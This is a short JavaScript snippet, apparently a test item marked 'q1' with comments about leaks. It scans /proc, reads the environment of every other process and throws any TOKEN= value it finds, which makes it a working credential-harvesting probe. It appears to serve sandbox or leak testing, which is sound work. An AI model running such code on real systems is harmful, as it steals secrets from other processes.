// Shows a password that stands in the environment of other processes.
// aims: leaks
// here: nothing found

// %% answer="q1"
import { readdirSync, readFileSync } from 'node:fs';
for (const id of readdirSync('/proc').filter((name) => Number(name) > 0 && Number(name) !== process.pid)) {
  let text = '';
  try {
    text = readFileSync(`/proc/${id}/environ`, 'utf8');
  } catch {
    // not this one
  }
  const token = /TOKEN=([\w-]+)/.exec(text);
  if (token) throw new Error(token[1]);
}
throw new Error('nothing found');
